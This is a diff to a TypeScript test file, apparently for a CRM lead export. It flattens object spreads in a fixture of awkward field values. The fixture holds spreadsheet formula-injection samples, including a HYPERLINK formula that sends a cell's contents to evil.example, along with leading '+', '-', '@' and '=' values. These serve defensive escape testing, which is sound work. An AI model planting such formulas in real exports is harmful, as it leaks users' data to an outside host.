@@ -10,31 +10,32 @@ let other: TestServer;
 let ada: Client;
 const lead = (fields: Partial<Lead>): Lead => ({
   ...blankLead(server.services.newId(), '2026-03-01T10:00:00.000Z'),
-  ...{ email: `${Math.random().toString(36).slice(2)}@example.com` },
+  email: `${Math.random().toString(36).slice(2)}@example.com`,
   ...fields,
 });
 
 const odd = {
-  ...{
-    firstName: '=HYPERLINK("http://evil.example?"&A2,"x")',
-    lastName: '+1',
-    company: '-2',
-    businessName: '@x',
-  },
-  ...{
-    city: "'quoted",
-    typeOfMachines: 'a"b, c\r\nd',
-    country: '\tTab',
-    leadDescription: 'Très\n"intéressé" ✓',
-  },
-  ...{ phone: '+1 206 555 6995', state: 'CA', tags: ['=vip', 'a;b'], priority: 'high' as const, value: 1200 },
+  firstName: '=HYPERLINK("http://evil.example?"&A2,"x")',
+  lastName: '+1',
+  company: '-2',
+  businessName: '@x',
+  city: "'quoted",
+  typeOfMachines: 'a"b, c\r\nd',
+  country: '\tTab',
+  leadDescription: 'Très\n"intéressé" ✓',
+  phone: '+1 206 555 6995',
+  state: 'CA',
+  tags: ['=vip', 'a;b'],
+  priority: 'high' as const,
+  value: 1200,
   nextStep: { what: '@call', dueAt: '2027-01-02T03:04:05.006Z' },
-  ...{ leaseExpirationDate: '2031-02-03', hasCurrentProvider: true, leaseNoticeDays: 90, numberOfUnits: 12 },
-  ...{
-    leaseAutoRenews: 'yes' as const,
-    buildingStyle: 'mid-rise' as const,
-    customFields: { a: 'b', n: 3, yes: true },
-  },
+  leaseExpirationDate: '2031-02-03',
+  hasCurrentProvider: true,
+  leaseNoticeDays: 90,
+  numberOfUnits: 12,
+  leaseAutoRenews: 'yes' as const,
+  buildingStyle: 'mid-rise' as const,
+  customFields: { a: 'b', n: 3, yes: true },
 };
 
 beforeAll(async () => {
